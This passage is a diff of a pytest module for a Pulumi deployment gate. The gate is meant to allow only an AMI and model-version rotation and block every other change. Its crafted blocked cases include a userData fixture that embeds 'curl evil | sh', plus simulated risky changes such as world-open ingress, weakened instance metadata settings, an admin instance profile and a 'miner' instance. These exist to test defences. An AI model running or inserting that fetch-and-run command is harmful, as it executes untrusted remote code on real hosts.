@@ -1,225 +1,396 @@
-"""The preview gate over real ``pulumi.automation`` engine event objects.
+"""The preview gate over real ``pulumi.automation`` engine event objects. It must fail closed.
 
-Events are built with ``EngineEvent.from_json`` from the JSON the Pulumi engine
-streams to the Automation API, so the gate reads exactly what ``on_event`` gets.
+The events are built with the SDK's own classes (``StepEventMetadata``,
+``ResourcePreEvent``, ``SummaryEvent`` ...) or parsed from engine JSON with
+``EngineEvent.from_json``. The reference rotation is not hand-written: it is the
+difference between two runs of the real ``__main__.py`` under the Pulumi mocks
+(``tests/_engine_events.preview_of_program``), so the allow-list is checked
+against what the program really changes when ``kiln:nodeAmi`` and
+``kiln:modelVersion`` change — and against what it changes when anything else
+changes too.
 """
 
 from __future__ import annotations
 
-from hypothesis import given
-from hypothesis import strategies as st
-from pulumi.automation.events import EngineEvent
-
-from automation.gate import EventRecorder, GateRules, classify
-
-STACK = "urn:pulumi:prod::kiln"
-_seq = iter(range(1, 10_000))
-
-
-def step(op: str, type_: str, name: str, *, keys=None, diffs=None, detailed=None, parent="kiln:index:NodeGroup",
-         inputs=None):
-    urn = f"{STACK}::{parent}${type_}::{name}"
-    meta = {"op": op, "urn": urn, "type": type_, "provider": "", "old": {"type": type_, "urn": urn, "id": "x",
-            "parent": "", "provider": "", "inputs": inputs or {}, "outputs": {}}, "new": None}
-    if keys is not None:
-        meta["keys"] = keys
-    if diffs is not None:
-        meta["diffs"] = diffs
-    if detailed is not None:
-        meta["detailedDiff"] = {k: {"diffKind": v, "inputDiff": True} for k, v in detailed.items()}
-    return EngineEvent.from_json({"sequence": next(_seq), "timestamp": 0, "resourcePreEvent": {"metadata": meta}})
-
-
-def prelude():
-    return EngineEvent.from_json({"sequence": 0, "timestamp": 0, "preludeEvent": {"config": {"kiln:nodeAmi": "ami-1"}}})
-
-
-def test_update_only_is_allowed_and_same_steps_are_ignored():
-    events = [
-        prelude(),
-        step("same", "aws:eks/cluster:Cluster", "kiln-cluster"),
-        step("update", "aws:ec2/launchTemplate:LaunchTemplate", "gpu-lt", diffs=["imageId", "userData"],
-             detailed={"imageId": "update", "userData": "update"}),
-        step("update", "aws:autoscaling/group:Group", "gpu-us-east-2a", diffs=["launchTemplate", "tags"]),
-        step("update", "pulumi:pulumi:Stack", "kiln-prod", diffs=["outputs"]),
-    ]
-    result = classify(events)
-    assert result.allowed
-    assert [c.name for c in result.changes] == ["gpu-lt", "gpu-us-east-2a", "kiln-prod"]
-    assert "no changes" not in result.render()
-
-
-def test_no_changes():
-    result = classify([prelude(), step("same", "aws:eks/cluster:Cluster", "kiln-cluster")])
-    assert result.allowed and not result.has_changes
-    assert result.render() == "preview: no changes"
-
-
-def test_replace_of_launch_template_is_blocked_with_keys():
-    # A new LT *version* is an update; a replace would delete the LT the ASGs use.
-    result = classify([step("replace", "aws:ec2/launchTemplate:LaunchTemplate", "gpu-lt", keys=["name"],
-                            diffs=["name", "imageId"])])
-    assert not result.allowed
-    (blocked,) = result.blocked
-    assert blocked.change.replace_keys == ("name",)
-    text = result.render()
-    assert "BLOCKED" in text and "replace" in text and "gpu-lt" in text and "replaced because of: name" in text
-
-
-def test_replace_keys_come_from_detailed_diff_when_keys_missing():
-    result = classify([step("replace", "aws:autoscaling/group:Group", "gpu-a",
-                            detailed={"availabilityZones": "update-replace", "tags": "update"})])
-    assert result.blocked[0].change.replace_keys == ("availabilityZones",)
-
-
-def test_asg_update_beyond_launch_template_and_tags_is_blocked():
-    result = classify([step("update", "aws:autoscaling/group:Group", "gpu-a", diffs=["launchTemplate", "desiredCapacity"])])
-    assert not result.allowed
-    assert "desiredCapacity" in result.blocked[0].reason
-
-
-def test_delete_is_blocked():
-    result = classify([step("delete", "aws:iam/role:Role", "node-role")])
-    assert not result.allowed
-    assert "must not delete aws:iam/role:Role" in result.render()
-
-
-def test_replace_of_the_cluster_is_blocked_even_among_allowed_changes():
-    events = [
-        step("update", "aws:ec2/launchTemplate:LaunchTemplate", "gpu-lt", diffs=["imageId"]),
-        step("create-replacement", "aws:eks/cluster:Cluster", "kiln-cluster", keys=["version"], diffs=["version"]),
-        step("replace", "aws:eks/cluster:Cluster", "kiln-cluster", keys=["version"], diffs=["version"]),
-        step("delete-replaced", "aws:eks/cluster:Cluster", "kiln-cluster", keys=["version"]),
-    ]
-    result = classify(events)
-    assert not result.allowed
-    assert len(result.blocked) == 1  # one verdict per resource, however many steps the replace takes
-    assert result.blocked[0].change.type == "aws:eks/cluster:Cluster"
-    assert "version" in result.render()
-
-
-def test_new_model_volume_create_and_old_delete_are_allowed():
-    events = [
-        step("create", "kubernetes:core/v1:PersistentVolume", "model-v6", parent="kiln:index:ModelVolume"),
-        step("create", "kubernetes:core/v1:PersistentVolumeClaim", "model-v6", parent="kiln:index:ModelVolume"),
-        step("delete", "kubernetes:core/v1:PersistentVolumeClaim", "model-v5", parent="kiln:index:ModelVolume"),
-        step("delete", "kubernetes:core/v1:PersistentVolume", "model-v5", parent="kiln:index:ModelVolume"),
-    ]
-    result = classify(events)
-    assert result.allowed
-    assert all("new model's volume objects are expected" in v.reason for v in result.verdicts)
-
-
-def test_model_volume_recognised_by_its_kubernetes_name():
-    # The program's logical names are e.g. "volume-pv"; the object is kiln-model-v5 / model-v5.
-    events = [
-        step("replace", "kubernetes:core/v1:PersistentVolume", "volume-pv", keys=["metadata"],
-             inputs={"metadata": {"name": "kiln-model-v5"}}),
-        step("replace", "kubernetes:core/v1:PersistentVolumeClaim", "volume-pvc", keys=["metadata"],
-             inputs={"metadata": {"name": "model-v5", "namespace": "ml-jobs"}}),
-    ]
-    assert classify(events).allowed
-    assert not classify([step("replace", "kubernetes:core/v1:PersistentVolume", "volume-pv", keys=["metadata"],
-                              inputs={"metadata": {"name": "scratch"}})]).allowed
-
-
-def test_deleting_a_volume_that_is_not_the_model_is_blocked():
-    result = classify([step("delete", "kubernetes:core/v1:PersistentVolumeClaim", "scratch")])
-    assert not result.allowed
-
-
-def test_explicit_allow_list():
-    rules = GateRules(allowed_replacements=frozenset({"aws:ec2/launchTemplate:LaunchTemplate::gpu-lt"}))
-    result = classify([step("replace", "aws:ec2/launchTemplate:LaunchTemplate", "gpu-lt", keys=["name"])], rules)
-    assert result.allowed
-
-
-def test_recorder_collects_on_event_calls():
-    recorder = EventRecorder()
-    recorder(step("delete", "aws:ec2/securityGroup:SecurityGroup", "nodes"))
-    recorder(prelude())
-    assert not recorder.result().allowed
-    assert recorder.result().to_dict()["changes"][0]["op"] == "delete"
-
-
-SAFE = [("update", "aws:ec2/launchTemplate:LaunchTemplate", "lt"), ("same", "aws:eks/cluster:Cluster", "kiln"),
-        ("update", "aws:autoscaling/group:Group", "asg"), ("create", "kubernetes:core/v1:PersistentVolume", "model-v6"),
-        ("delete", "kubernetes:core/v1:PersistentVolumeClaim", "model-v5"), ("update", "pulumi:pulumi:Stack", "s")]
-DESTRUCTIVE = [("delete", "aws:iam/role:Role", "node"), ("replace", "aws:eks/cluster:Cluster", "kiln"),
-               ("replace", "aws:ec2/launchTemplate:LaunchTemplate", "lt"), ("delete", "aws:autoscaling/group:Group", "asg"),
-               ("delete-replaced", "aws:ec2/vpc:Vpc", "vpc")]
-
-
-@given(st.lists(st.sampled_from(range(len(SAFE))), max_size=8),
-       st.lists(st.sampled_from(range(len(DESTRUCTIVE))), max_size=3))
-def test_any_destructive_change_blocks_and_only_safe_changes_pass(safe, destructive):
-    events = [step(*SAFE[i], diffs=["launchTemplate"] if SAFE[i][1].startswith("aws:autoscaling") else None)
-              for i in safe] + [step(*DESTRUCTIVE[i], keys=["name"]) for i in destructive]
-    result = classify(events)
-    assert result.allowed == (not destructive)
-    assert {v.change.name for v in result.blocked} == {DESTRUCTIVE[i][2] for i in destructive}
-
-
-# ---------------------------------------------------------------------------------------------
-# The same rules with event objects built directly from the SDK's classes (what ``on_event`` gets
-# after the SDK parsed the engine's JSON), including every op the engine can report.
+import base64
+import json
 
 import pytest
-from pulumi.automation.events import (DiffKind, OpType, PropertyDiff, ResourcePreEvent, StepEventMetadata,
-                                      StepEventStateMetadata)
+from hypothesis import given
+from hypothesis import strategies as st
+from pulumi.automation.events import DiffKind, EngineEvent, OpType
 
-LT = "aws:ec2/launchTemplate:LaunchTemplate"
-ASG = "aws:autoscaling/group:Group"
+from automation.gate import (UNKNOWN, EventRecorder, Expected, PathError, classify, differs_only_by_model,
+                             format_path, parse_path)
+from tests._engine_events import (op_failed, outputs_of, path_string, policy_violation, preview_of_program, step,
+                                  summary, urn_of)
+from tests._program_helpers import BASE, EXISTING_GPU_SPOT, with_changes
 
-
-def pre(op: OpType, type_: str, name: str, *, keys=None, diffs=None, detailed=None) -> EngineEvent:
-    urn = f"{STACK}::kiln:index:NodeGroup${type_}::{name}"
-    state = StepEventStateMetadata(type=type_, urn=urn, id="id-1", parent=f"{STACK}::kiln:index:NodeGroup::gpu",
-                                   provider="urn:pulumi:prod::kiln::pulumi:providers:aws::default::1")
-    meta = StepEventMetadata(op=op, urn=urn, type=type_, provider=state.provider, old=state, new=state, keys=keys,
-                             diffs=diffs, detailed_diff={k: PropertyDiff(v, True) for k, v in (detailed or {}).items()})
-    return EngineEvent(sequence=next(_seq), timestamp=0, resource_pre_event=ResourcePreEvent(metadata=meta))
-
-
-@pytest.mark.parametrize("op", [OpType.REPLACE, OpType.CREATE_REPLACEMENT, OpType.DELETE_REPLACED, OpType.DELETE,
-                                OpType.READ_REPLACEMENT, OpType.IMPORT_REPLACEMENT])
-def test_every_destroying_op_on_a_launch_template_is_blocked(op):
-    result = classify([pre(op, LT, "gpu-lt", keys=["name"])])
-    assert not result.allowed and result.blocked[0].change.op == op.value
+OLD_AMI, NEW_AMI = "ami-0123456789abcdef0", "ami-0aaaaaaaaaaaaaaa1"
+GPU_NEW = "ami-0aaaaaaaaaaaaaaa2"
+LT, ASG = "aws:ec2/launchTemplate:LaunchTemplate", "aws:autoscaling/group:Group"
+PV, PVC = "kubernetes:core/v1:PersistentVolume", "kubernetes:core/v1:PersistentVolumeClaim"
+ROTATION = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5", required_policy_packs=("kiln",))
 
 
-@pytest.mark.parametrize("op", [OpType.SAME, OpType.READ, OpType.REFRESH, OpType.DISCARD, OpType.DISCARD_REPLACED,
-                                OpType.REMOVE_PENDING_REPLACE])
-def test_ops_that_change_nothing_in_the_world_are_ignored(op):
-    # discard / discard-replaced drop a *read* resource from the state; nothing is deleted.
-    assert not classify([pre(op, LT, "gpu-lt")]).has_changes
+def gate(events, expected=ROTATION, with_summary=True, **kw):
+    events = list(events)
+    if with_summary:
+        events.append(summary(events))
+    return classify(events, expected, **kw)
 
 
-def test_delete_before_replace_still_names_the_keys_causing_the_replace():
-    # With deleteBeforeReplace the engine's first step is delete-replaced, which carries no keys.
-    events = [pre(OpType.DELETE_REPLACED, LT, "gpu-lt"),
-              pre(OpType.REPLACE, LT, "gpu-lt", keys=["name"], diffs=["name", "imageId"]),
-              pre(OpType.CREATE_REPLACEMENT, LT, "gpu-lt", keys=["name"], diffs=["name", "imageId"])]
-    result = classify(events)
-    (blocked,) = result.blocked
-    assert blocked.change.replace_keys == ("name",)
-    assert "replaced because of: name" in result.render()
+# ------------------------------------------------------------------------- the program's own rotation
 
 
-def test_launch_template_update_whose_diff_forces_replacement_is_blocked():
-    result = classify([pre(OpType.UPDATE, LT, "gpu-lt", diffs=["imageId", "name"],
-                           detailed={"imageId": DiffKind.UPDATE, "name": DiffKind.UPDATE_REPLACE})])
+def test_the_programs_rotation_of_one_ami_is_allowed_exactly():
+    events = preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"))
+    result = classify(events, ROTATION)
+    assert result.allowed, result.render()
+    changed = sorted((c.type, c.op) for c in result.changes)
+    assert changed == sorted([(LT, "update"), (ASG, "update"), (ASG, "update"), (PV, "create-replacement"),
+                              (PVC, "create-replacement")])
+    lt = next(c for c in result.changes if c.type == LT)
+    assert set(lt.diff_keys) == {"imageId", "userData", "description"}
+    pv = next(c for c in result.changes if c.type == PV)
+    assert pv.object_names == ("kiln-model-v5", "kiln-model-v6")
+    assert 'metadata.labels["kiln.dev/model-version"]' in pv.diff_keys
+    assert result.summary["replace"] == 2 and result.summary["update"] == 3 and "create-replacement" not in result.summary
+
+
+def test_the_programs_rotation_of_a_family_map_and_its_restore_are_allowed():
+    new = {"standard": NEW_AMI, "nvidia": GPU_NEW}
+    forward = preview_of_program(EXISTING_GPU_SPOT, with_changes(EXISTING_GPU_SPOT, nodeAmi=new, modelVersion="v7"))
+    expected = Expected(to_model="v7", to_amis=frozenset(new.values()), from_model="v6")
+    result = classify(forward, expected)
+    assert result.allowed, result.render()
+    assert sum(c.type == ASG for c in result.changes) == 6      # 2 groups x 3 zones
+    # The restore goes the other way: the same rules with from and to swapped.
+    back = preview_of_program(with_changes(EXISTING_GPU_SPOT, nodeAmi=new, modelVersion="v7"), EXISTING_GPU_SPOT)
+    restore = Expected(to_model="v6", to_amis=frozenset(EXISTING_GPU_SPOT["kiln:nodeAmi"].values()), from_model="v7")
+    assert classify(back, restore).allowed
+    # ... but not with the forward expectation (wrong AMIs, wrong version names).
+    assert not classify(back, expected).allowed
+
+
+@pytest.mark.parametrize("extra, blocked_type", [
+    ({"kubernetesVersion": "1.34"}, "eks:index:Cluster"),
+    ({"endpointPublicAccessCidrs": ["198.51.100.0/24"]}, "eks:index:Cluster"),
+    ({"modelVolumeInitRateMiBps": 300}, LT),     # launch template block devices
+    ({"prefetchImages": ["public.ecr.aws/x/y:1"]}, None),
+])
+def test_a_rotation_carrying_any_other_config_change_is_blocked(extra, blocked_type):
+    new = with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6", **extra)
+    result = classify(preview_of_program(BASE, new), ROTATION)
+    assert not result.allowed, result.render()
+    if blocked_type:
+        assert blocked_type in {v.change.type for v in result.blocked}
+
+
+def test_a_node_group_size_change_riding_along_is_blocked():
+    groups = [dict(BASE["kiln:nodeGroups"][0], maxSize=9)]
+    result = classify(preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6",
+                                                             nodeGroups=groups)), ROTATION)
     assert not result.allowed
-    assert "name" in result.blocked[0].reason and "replaced because of: name" in result.render()
+    assert all(v.change.type == ASG and "maxSize" in v.reason for v in result.blocked)
+    # After the replacement (converge), putting maxSize back is expected; only then.
+    converge = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v6", converge=True)
+    asg_only = [step(OpType.UPDATE, ASG, "gpu-a", old={"maxSize": 20}, new={"maxSize": 10},
+                     detailed={"maxSize": DiffKind.UPDATE})]
+    assert gate(asg_only, converge).allowed and not gate(asg_only).allowed
 
 
-def test_asg_desired_capacity_in_the_detailed_diff_only_is_blocked():
-    result = classify([pre(OpType.UPDATE, ASG, "gpu-a", detailed={"launchTemplate.version": DiffKind.UPDATE,
-                                                                  "desiredCapacity": DiffKind.UPDATE})])
-    assert not result.allowed and "desiredCapacity" in result.blocked[0].reason
+# ------------------------------------------------------------------------- crafted: each must block
+
+def _lt(**detailed_values):
+    old = {"imageId": OLD_AMI, "userData": _b64("model v5"), "description": "model v5",
+           "metadataOptions": {"httpTokens": "required"}, "iamInstanceProfile": {"arn": "arn:aws:iam::1:ip/node"},
+           "instanceType": "g5.2xlarge"}
+    new = json.loads(json.dumps(old))
+    detailed = {}
+    for path, value in detailed_values.items():
+        segs = parse_path(path)
+        target = new
+        for seg in segs[:-1]:
+            target = target[seg]
+        target[segs[-1]] = value
+        detailed[path] = DiffKind.UPDATE
+    return step(OpType.UPDATE, LT, "gpu", old=old, new=new, detailed=detailed)
 
 
-def test_asg_update_that_names_no_keys_cannot_be_checked_and_is_blocked():
-    result = classify([pre(OpType.UPDATE, ASG, "gpu-a")])
-    assert not result.allowed and "no changed keys" in result.blocked[0].reason
-    assert classify([pre(OpType.UPDATE, ASG, "gpu-a", diffs=["launchTemplate.version", "tags[0].value"])]).allowed
+def _asg(detailed: dict, old=None, new=None, op=OpType.UPDATE):
+    base = {"launchTemplate": {"id": "lt-1", "version": "3"}, "maxSize": 10, "desiredCapacity": 2,
+            "mixedInstancesPolicy": {"instancesDistribution": {"onDemandPercentageAboveBaseCapacity": 100}},
+            "tags": [{"key": "Name", "value": "kiln-gpu", "propagateAtLaunch": True},
+                     {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version", "value": "v5",
+                      "propagateAtLaunch": False}]}
+    return step(op, ASG, "gpu-a", old=old or base, new=new or base, detailed=detailed)
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(f"#!/bin/bash\nKILN_MODEL_VERSION={text.split()[-1]}\nnodeadm init\n".encode()).decode()
+
+
+def _pv(op, old_name, new_name, *, retain=True, kind=PV, namespace="ml-jobs", name="model-volume-pv", extra=None,
+        retain_old=None):
+    def obj(n):
+        if n is None:
+            return None
+        meta = {"name": n, "labels": {"kiln.dev/model-version": n.rsplit("-", 1)[-1]}}
+        if kind == PVC:
+            meta["namespace"] = namespace
+        return {"metadata": meta, **(extra or {})}
+    detailed = {"metadata.name": DiffKind.UPDATE_REPLACE} if old_name and new_name else {}
+    return step(op, kind, name, old=obj(old_name), new=obj(new_name), detailed=detailed,
+                keys=["metadata"] if detailed else None, retain=retain, retain_old=retain_old)
+
+
+BLOCKED_CASES = {
+    "eks cluster version": [step(OpType.UPDATE, "aws:eks/cluster:Cluster", "kiln", old={"version": "1.33"},
+                                 new={"version": "1.34"}, detailed={"version": DiffKind.UPDATE})],
+    "eks endpoint access": [step(OpType.UPDATE, "aws:eks/cluster:Cluster", "kiln",
+                                 old={"vpcConfig": {"endpointPublicAccess": False}},
+                                 new={"vpcConfig": {"endpointPublicAccess": True}},
+                                 detailed={"vpcConfig.endpointPublicAccess": DiffKind.UPDATE})],
+    "node role trust policy": [step(OpType.UPDATE, "aws:iam/role:Role", "node", old={"assumeRolePolicy": "{}"},
+                                    new={"assumeRolePolicy": '{"Statement":[]}'},
+                                    detailed={"assumeRolePolicy": DiffKind.UPDATE})],
+    "security group ingress": [step(OpType.UPDATE, "aws:ec2/securityGroup:SecurityGroup", "nodes",
+                                    old={"ingress": []}, new={"ingress": [{"cidrBlocks": ["0.0.0.0/0"]}]},
+                                    detailed={"ingress[0]": DiffKind.ADD})],
+    "ingress rule created": [step(OpType.CREATE, "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", "open",
+                                  new={"cidrIpv4": "0.0.0.0/0"})],
+    "vpc cni addon": [step(OpType.UPDATE, "aws:eks/addon:Addon", "vpc-cni", old={"addonVersion": "v1.19.0"},
+                           new={"addonVersion": "v1.20.0"}, detailed={"addonVersion": DiffKind.UPDATE})],
+    "lt metadataOptions": [_lt(**{"imageId": NEW_AMI, "metadataOptions.httpTokens": "optional"})],
+    "lt iamInstanceProfile": [_lt(**{"imageId": NEW_AMI, "iamInstanceProfile.arn": "arn:aws:iam::1:ip/admin"})],
+    "lt instance type": [_lt(**{"imageId": NEW_AMI, "instanceType": "p5.48xlarge"})],
+    "lt image not a target": [_lt(imageId="ami-0bbbbbbbbbbbbbbbb")],
+    "lt userData beyond the model": [_lt(imageId=NEW_AMI, userData=base64.b64encode(
+        b"#!/bin/bash\nKILN_MODEL_VERSION=v6\nnodeadm init\ncurl evil | sh\n").decode())],
+    "lt userData unknown": [_lt(imageId=NEW_AMI, userData=UNKNOWN)],
+    "lt description beyond the model": [_lt(imageId=NEW_AMI, description="model v6, and more")],
+    "lt replaced": [step(OpType.REPLACE, LT, "gpu", old={"name": "a"}, new={"name": "b"},
+                         detailed={"name": DiffKind.UPDATE_REPLACE}, keys=["name"])],
+    "lt update carrying a replace key": [step(OpType.UPDATE, LT, "gpu", old={"imageId": OLD_AMI, "name": "a"},
+                                              new={"imageId": NEW_AMI, "name": "b"},
+                                              detailed={"imageId": DiffKind.UPDATE, "name": DiffKind.UPDATE_REPLACE})],
+    "lt update without inputs": [step(OpType.UPDATE, LT, "gpu", detailed={"imageId": DiffKind.UPDATE})],
+    "lt update naming no property": [step(OpType.UPDATE, LT, "gpu", old={}, new={}, diffs=[])],
+    "lt deleted": [step(OpType.DELETE, LT, "gpu", old={"imageId": OLD_AMI})],
+    "asg instancesDistribution": [_asg({"mixedInstancesPolicy.instancesDistribution.onDemandPercentageAboveBaseCapacity":
+                                        DiffKind.UPDATE})],
+    "asg launchTemplate.id": [_asg({"launchTemplate.id": DiffKind.UPDATE})],
+    "asg maxSize in the detailed diff only": [_asg({"launchTemplate.version": DiffKind.UPDATE,
+                                                    "maxSize": DiffKind.UPDATE}, )],
+    "asg desiredCapacity": [_asg({"desiredCapacity": DiffKind.UPDATE})],
+    "asg top-level launchTemplate only": [step(OpType.UPDATE, ASG, "gpu-a", old={}, new={}, diffs=["launchTemplate"])],
+    "asg another tag's value": [_asg({"tags[0].value": DiffKind.UPDATE})],
+    "asg model tag to another version": [_asg({"tags[1].value": DiffKind.UPDATE}, new={
+        "tags": [{"key": "Name", "value": "kiln-gpu"},
+                 {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version", "value": "v7"}]})],
+    "asg replaced": [step(OpType.REPLACE, ASG, "gpu-a", old={}, new={}, keys=["name"],
+                          detailed={"name": DiffKind.UPDATE_REPLACE})],
+    "pv named model but not the version": [_pv(OpType.CREATE, None, "model-scratch")],
+    "pv of another version": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v7")],
+    "pv not retained": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", retain=False)],
+    "new pv not retained": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", retain=False,
+                                retain_old=True)],
+    "pv delete not retained": [_pv(OpType.DELETE_REPLACED, "kiln-model-v5", None, retain=False)],
+    "pvc in another namespace": [_pv(OpType.CREATE_REPLACEMENT, "model-v5", "model-v6", kind=PVC, namespace="default",
+                                     name="model-volume-pvc")],
+    "pv hostPath changed too": [step(OpType.CREATE_REPLACEMENT, PV, "model-volume-pv",
+                                     old={"metadata": {"name": "kiln-model-v5"}, "spec": {"hostPath": {"path": "/opt/models"}}},
+                                     new={"metadata": {"name": "kiln-model-v6"}, "spec": {"hostPath": {"path": "/"}}},
+                                     detailed={"metadata.name": DiffKind.UPDATE_REPLACE,
+                                               "spec.hostPath.path": DiffKind.UPDATE_REPLACE},
+                                     keys=["metadata", "spec"], retain=True)],
+    "other pvc deleted": [step(OpType.DELETE, PVC, "scratch", old={"metadata": {"name": "scratch"}})],
+    "instance created": [step(OpType.CREATE, "aws:ec2/instance:Instance", "miner", new={"instanceType": "p5.48xlarge"})],
+    "import": [step(OpType.IMPORT, "aws:iam/role:Role", "node", new={})],
+    "read-replacement": [step(OpType.READ_REPLACEMENT, "aws:iam/role:Role", "node", old={}, new={})],
+    "upsert turned on without adoption": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={},
+                                               new={"upsertExistingObjects": "true"},
+                                               detailed={"upsertExistingObjects": DiffKind.ADD})],
+    "provider changes beyond upsert": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={"kubeconfig": "a"},
+                                            new={"kubeconfig": "b"}, detailed={"kubeconfig": DiffKind.UPDATE})],
+    "path the gate cannot parse": [step(OpType.UPDATE, ASG, "gpu-a", old={}, new={},
+                                        detailed={'tags[x]."': DiffKind.UPDATE})],
+}
+
+
+@pytest.mark.parametrize("case", sorted(BLOCKED_CASES))
+def test_each_crafted_change_is_blocked_and_says_why(case):
+    result = gate(BLOCKED_CASES[case])
+    assert not result.allowed and result.blocked, case
+    text = result.render()
+    assert "BLOCKED" in text and result.blocked[0].reason in text
+
+
+@pytest.mark.parametrize("case", sorted(BLOCKED_CASES))
+def test_each_crafted_change_still_blocks_among_a_valid_rotation(case):
+    good = [e for e in preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"),
+                                          with_summary=False)]
+    result = gate(good + BLOCKED_CASES[case])
+    assert not result.allowed
+    assert len(result.blocked) == 1      # the valid rotation's own steps stay allowed
+
+
+def test_the_valid_crafted_steps_pass():
+    events = [_lt(imageId=NEW_AMI, userData=_b64("model v6"), description="model v6"),
+              _asg({"launchTemplate.version": DiffKind.UPDATE, "tags[1].value": DiffKind.UPDATE}, new={
+                  "launchTemplate": {"id": "lt-1", "version": UNKNOWN},
+                  "tags": [{"key": "Name", "value": "kiln-gpu"},
+                           {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version",
+                            "value": "v6"}]}),
+              _pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6"),
+              _pv(OpType.REPLACE, "kiln-model-v5", "kiln-model-v6"),
+              _pv(OpType.DELETE_REPLACED, "kiln-model-v5", None),
+              step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={})]
+    result = gate(events)
+    assert result.allowed, result.render()
+    assert len(result.verdicts) == 3    # one per resource, however many steps the replace takes
+
+
+def test_adopting_retained_objects_allows_the_provider_upsert_switch_and_turning_it_off_is_always_fine():
+    on = step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={}, new={"upsertExistingObjects": "true"},
+              detailed={"upsertExistingObjects": DiffKind.ADD})
+    off = step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={"upsertExistingObjects": "true"}, new={},
+               detailed={"upsertExistingObjects": DiffKind.DELETE})
+    adopt = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5", adopt_model_volume=True)
+    assert gate([on], adopt).allowed and not gate([on]).allowed
+    assert gate([off]).allowed
+
+
+# ------------------------------------------------------------------------- the engine's own accounting
+
+
+def test_a_cluster_replace_whose_event_was_dropped_is_caught_by_the_summary():
+    replace = step(OpType.REPLACE, "aws:eks/cluster:Cluster", "kiln", old={"version": "1.33"}, new={"version": "1.34"},
+                   keys=["version"], detailed={"version": DiffKind.UPDATE_REPLACE})
+    good = preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"), with_summary=False)
+    engine_summary = summary(good + [replace])        # the engine counted it ...
+    result = classify(good + [engine_summary], ROTATION)   # ... but the SDK dropped its event
+    assert not result.allowed and not result.blocked       # every step the gate saw is fine
+    assert any("replace" in p and "lost" in p for p in result.problems), result.problems
+    assert "BLOCKED" in result.render()
+
+
+def test_an_engine_event_the_sdk_could_not_parse_blocks():
+    # An op this SDK does not know: EngineEvent.from_json raises, so the SDK drops the event with a warning.
+    raw = {"sequence": 1, "timestamp": 0, "resourcePreEvent": {"metadata": {
+        "op": "frobnicate", "urn": urn_of(LT, "gpu"), "type": LT, "provider": ""}}}
+    with pytest.raises(ValueError):
+        EngineEvent.from_json(raw)
+    engine_summary = EngineEvent.from_json({"sequence": 2, "timestamp": 0, "summaryEvent": {
+        "maybeCorrupt": False, "durationSeconds": 1, "resourceChanges": {"same": 1, "frobnicate": 1},
+        "PolicyPacks": {"kiln": "0.1.0"}}})
+    same = step(OpType.SAME, LT, "gpu", old={}, new={})
+    result = classify([same, engine_summary], ROTATION, dropped=[json.dumps(raw)])
+    assert not result.allowed
+    assert any("frobnicate" in p for p in result.problems) and any("dropped" in p for p in result.problems)
+
+
+def test_no_summary_blocks():
+    result = gate([_lt(imageId=NEW_AMI)], with_summary=False)
+    assert not result.allowed and "no change summary" in result.render()
+
+
+def test_counts_follow_the_engines_logical_steps():
+    events = [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6"),
+              _pv(OpType.REPLACE, "kiln-model-v5", "kiln-model-v6"),
+              _pv(OpType.DELETE_REPLACED, "kiln-model-v5", None),
+              step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={})]
+    engine = EngineEvent.from_json({"sequence": 9, "timestamp": 0, "summaryEvent": {
+        "resourceChanges": {"replace": 1, "same": 1}, "PolicyPacks": {"kiln": "0.1.0"}}})
+    assert classify(events + [engine], ROTATION).allowed
+    # The engine marks each step logical or not; the gate counts what the engine marks.
+    flagged = [step(OpType.CREATE_REPLACEMENT, PV, "model-volume-pv", old={"metadata": {"name": "kiln-model-v5"}},
+                    new={"metadata": {"name": "kiln-model-v6"}}, detailed={"metadata.name": DiffKind.UPDATE_REPLACE},
+                    retain=True, logical=True)]
+    assert not classify(flagged + [engine], ROTATION).allowed   # counted as a create-replacement the engine did not
+
+
+def test_the_policy_pack_must_have_run_and_mandatory_violations_block():
+    events = [_lt(imageId=NEW_AMI)]
+    assert not classify(events + [summary(events, policy_packs={})], ROTATION).allowed
+    assert classify(events + [summary(events, policy_packs={})],
+                    Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5")).allowed
+    advisory = classify(events + [policy_violation("advisory"), summary(events)], ROTATION)
+    assert advisory.allowed and advisory.warnings and "warning" in advisory.render()
+    assert not classify(events + [policy_violation("mandatory"), summary(events)], ROTATION).allowed
+
+
+def test_failed_operations_and_outputs_without_a_step_block():
+    lt = _lt(imageId=NEW_AMI)
+    assert classify([lt, outputs_of(lt), summary([lt])], ROTATION).allowed
+    assert not classify([outputs_of(lt), summary([])], ROTATION).allowed
+    assert not classify([lt, op_failed(urn_of(LT, "gpu")), summary([lt])], ROTATION).allowed
+
+
+def test_recorder_never_raises_and_feeds_the_gate():
+    recorder = EventRecorder()
+    lt = _lt(imageId=NEW_AMI)
+    for e in (lt, summary([lt])):
+        recorder(e)
+    assert recorder.result(ROTATION).allowed
+    recorder.dropped.append("garbage")
+    assert not recorder.result(ROTATION).allowed
+
+
+def test_no_changes_renders_plainly():
+    same = step(OpType.SAME, LT, "gpu", old={}, new={})
+    result = gate([same])
